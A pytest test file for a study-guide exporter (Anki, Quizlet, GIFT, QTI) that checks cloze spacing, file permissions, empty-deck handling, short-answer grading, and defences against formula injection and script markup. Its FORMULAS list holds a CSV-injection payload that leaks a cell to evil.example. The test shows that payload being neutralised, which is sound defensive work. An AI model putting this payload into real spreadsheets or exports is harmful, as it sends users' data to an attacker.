"""What the exports owe their readers: cloze gaps with their spaces, files a web server may read, no empty decks,
short answers a quiz can grade, and no formula or markup that runs in a spreadsheet or an LMS."""

from __future__ import annotations

import copy
import html
import os
import stat
import tempfile
import zipfile
from pathlib import Path

import pytest
from anki.collection import Collection, ImportCsvRequest
from conftest import make_guide_dict
from publishing import PLANT, write_library
from test_exports import _expected, _guides, _import, parse_gift, parse_qti

from seekh_convert.write.render import FORMATS, render

pytest_plugins = ["publishing"]

SRC = {"quote": "The therapeutic alliance is the working relationship between client and therapist.", "page": 1}


def _notes(col: Collection) -> dict[str, dict[str, str]]:
    """Every note's fields by GUID."""
    out = {}
    for nid in col.find_notes(""):
        note = col.get_note(nid)
        out[note.guid] = dict(note.items())
    return out


def _import_text(path: Path) -> tuple[dict[str, dict[str, str]], set[str]]:
    """The notes and decks Anki makes of an import text (Anki's own CSV importer)."""
    col = Collection(str(Path(tempfile.mkdtemp()) / "text.anki2"))
    try:
        col.import_csv(ImportCsvRequest(path=str(path), metadata=col.get_csv_metadata(str(path), None)))
        decks = {col.decks.name(c.did) for nid in col.find_notes("") for c in col.get_note(nid).cards()}
        return _notes(col), decks
    finally:
        col.close()


def _import_apkg(path: Path) -> tuple[dict[str, dict[str, str]], set[str]]:
    col = Collection(str(Path(tempfile.mkdtemp()) / "apkg.anki2"))
    try:
        _import(col, path)
        decks = {col.decks.name(c.did) for nid in col.find_notes("") for c in col.get_note(nid).cards()}
        return _notes(col), decks
    finally:
        col.close()


# -- cloze rows --------------------------------------------------------------------------------------


def test_the_import_text_keeps_the_spaces_around_a_cloze_gap_as_the_apkg_does(published):
    for name in ("therapeutic-alliance-notes", "memory-lecture"):
        text_notes, _ = _import_text(published / name / f"{name}.anki.txt")
        apkg_notes, _ = _import_apkg(published / name / f"{name}.apkg")
        clozes = {g: n["Text"] for g, n in apkg_notes.items() if "Text" in n}
        assert clozes, name
        for guid, text in clozes.items():
            # "a stronger {{c1::memory}}.", not "a stronger{{c1::memory}}." (the import text escapes quotes too)
            assert html.unescape(text_notes[guid]["Text"]) == html.unescape(text)
            assert " {{c1::" in text or text.startswith("{{c1::")


# -- file modes --------------------------------------------------------------------------------------


@pytest.mark.parametrize("umask, mode", [(0o022, 0o644), (0o027, 0o640)])
def test_every_file_written_has_the_mode_of_the_umask_not_0600(tmp_path, umask, mode):
    old = os.umask(umask)
    try:
        out = write_library(tmp_path / "out", {"01-alliance": make_guide_dict()})
        assert not render(out, list(FORMATS)).errors
    finally:
        os.umask(old)
    ours = [p for p in out.rglob("*") if p.is_file() and p.name not in ("guide.json", "index.json")]
    assert len(ours) > 10
    assert {p.relative_to(out).as_posix(): oct(stat.S_IMODE(p.stat().st_mode)) for p in ours} == {
        p.relative_to(out).as_posix(): oct(mode) for p in ours
    }


# -- empty decks -------------------------------------------------------------------------------------


def test_a_document_without_cards_or_questions_writes_no_empty_deck_or_quiz_and_says_so(tmp_path):
    reason = [{"section": s, "reason": "The source has none."} for s in ("flashcards", "questions")]
    out = write_library(tmp_path / "out", {"01-alliance": make_guide_dict()})
    assert not render(out, ["anki", "tsv", "gift", "qti"]).errors
    exports = ["notes.apkg", "notes.anki.txt", "notes.quizlet.txt", "notes.gift", "notes.qti.zip"]
    assert all((out / "notes" / f).exists() for f in exports)
    write_library(out, {"01-alliance": make_guide_dict(flashcards=[], questions=[], empty_sections=reason)})
    report = render(out, ["anki", "tsv", "gift", "qti"])
    assert not report.errors and report.written == []
    assert [f for f in exports if (out / "notes" / f).exists()] == []  # the earlier, now stale, exports are gone
    assert report.notes == [
        "notes: no flashcards, so no anki export was written",
        "notes: no flashcards, so no tsv export was written",
        "notes: no questions, so no gift export was written",
        "notes: no questions, so no qti export was written",
    ]


# -- short answers -----------------------------------------------------------------------------------


def _short(answer: str, accept: list[str] | None = None, question: str = "Name the working relationship.") -> dict:
    q = {"kind": "short_answer", "question": question, "answer": answer, "explanation": SRC["quote"], "source": SRC}
    if accept is not None:
        q["accept"] = accept
    return q


def _short_library(tmp_path: Path) -> Path:
    guide = make_guide_dict()
    guide["questions"] = [
        _short("The therapeutic alliance.", ["therapeutic alliance", "working alliance", "alliance"]),
        _short("Rapport."),  # a guide from before ``accept``: a short answer is its own key
        _short("Because the client and the therapist agree on goals.", question="Why does it work?"),
    ]
    out = write_library(tmp_path / "out", {"01-alliance": guide})
    assert not render(out, list(FORMATS)).errors
    return out


def test_short_answers_export_a_short_key_with_accepted_alternatives_or_an_essay(tmp_path):
    out = _short_library(tmp_path)
    gift, qti = parse_gift((out / "notes" / "notes.gift").read_text()), parse_qti(out / "notes" / "notes.qti.zip")
    assert gift == qti == _expected(_guides(out, "notes"))
    assert [q.get("accept") for q in gift] == [["therapeutic alliance", "working alliance", "alliance"], ["Rapport"], None]
    assert gift[2]["kind"] == "essay"  # no short form: graded by hand, the model answer in the feedback
    assert gift[2]["feedback"].startswith("Model answer: Because the client")


# -- formula injection and markup ---------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/steal?d="&A1, "Click")', "+SUM(1,2)", "-2+3", "@SUM(A1)"]


def _formula_library(tmp_path: Path) -> Path:
    guide = make_guide_dict(topic=FORMULAS[0])
    card = copy.deepcopy(guide["flashcards"][0])
    guide["flashcards"] = [{**card, "front": f, "back": b} for f, b in zip(FORMULAS, reversed(FORMULAS))]
    guide["flashcards"].append({**card, "kind": "cloze", "front": "=_____ opens it", "back": "@cmd"})
    return write_library(tmp_path / "out", {"01-alliance": guide}, title=FORMULAS[0])


def test_no_cell_of_the_import_texts_starts_a_formula_and_anki_still_shows_the_text(tmp_path):
    out = _formula_library(tmp_path)
    assert not render(out, ["anki", "tsv"]).errors
    quizlet = (out / "notes" / "notes.quizlet.txt").read_text().splitlines()
    anki = [line.split("\t") for line in (out / "notes" / "notes.anki.txt").read_text().splitlines()]
    rows = [line for line in anki if not line[0].startswith("#")]
    cells = [c for line in quizlet for c in line.split("\t")] + [c for row in rows for c in row[1:]]  # GUIDs: hashes
    assert len(cells) == 2 * 5 + 5 * 5
    assert [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
    assert [line.split("\t") for line in quizlet][0] == ["'" + FORMULAS[0], "'" + FORMULAS[-1]]  # OWASP: a leading '
    text_notes, text_decks = _import_text(out / "notes" / "notes.anki.txt")
    apkg_notes, apkg_decks = _import_apkg(out / "notes" / "notes.apkg")
    assert text_decks == apkg_decks and len(text_decks) == 1  # Anki reads the same cards either way

    def shown(notes: dict) -> dict[str, str]:
        return {g: html.unescape(n.get("Front") or n["Text"]) for g, n in notes.items()}

    assert shown(text_notes) == shown(apkg_notes)
    assert sorted(shown(text_notes).values()) == sorted([*FORMULAS, "={{c1::@cmd}} opens it"])


def test_gift_and_qti_carry_markup_as_escaped_text_only(planted):
    gift = (planted / "notes" / "notes.gift").read_text()
    assert "<script" not in gift and "<img" not in gift and "<a " not in gift
    with zipfile.ZipFile(planted / "notes" / "notes.qti.zip") as archive:
        for name in archive.namelist():
            xml = archive.read(name).decode()
            assert "<script" not in xml and "&lt;script" not in xml.replace("&amp;lt;script", "")  # escaped twice: text
    parsed = parse_gift(gift)
    assert parsed == _expected(_guides(planted, "notes")) == parse_qti(planted / "notes" / "notes.qti.zip")
    assert any(PLANT in q["stem"] for q in parsed)  # shown as the very text of the document
